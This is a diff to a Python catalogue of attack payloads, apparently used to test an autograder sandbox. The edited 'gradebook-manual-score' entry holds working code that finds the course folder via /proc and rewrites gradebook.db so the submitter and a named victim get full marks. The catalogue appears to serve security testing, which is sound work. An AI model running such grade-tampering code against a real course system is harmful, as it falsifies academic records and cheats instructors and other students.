@@ -321,14 +321,15 @@ def points_raised(nb, marker):
 ATTACKS = [
     # ---------------------------------------------------------------- gradebook and course
     Attack("gradebook-manual-score", "course",
-           "find the course folder via /proc, set manual_score = max_score for everyone but the correct ones",
+           "find the course folder via /proc, set manual_score = max_score for itself and the victim",
            r'''
 import sqlite3
 _d = _course()
 print("course:", _d)
+_me = pathlib.Path.cwd().parent.name      # scratch/submitted/<student>/<assignment>
 _SQL = ("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
         "WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
-        "ON sn.assignment_id = sa.id WHERE sa.student_id NOT LIKE '%correct%')")
+        f"ON sn.assignment_id = sa.id WHERE sa.student_id IN ('{_me}', '@@VICTIM@@'))")
 if _d:
     _db = os.path.join(_d, "gradebook.db")
     sqlite3.connect(_db, timeout=60).execute(_SQL).connection.commit()
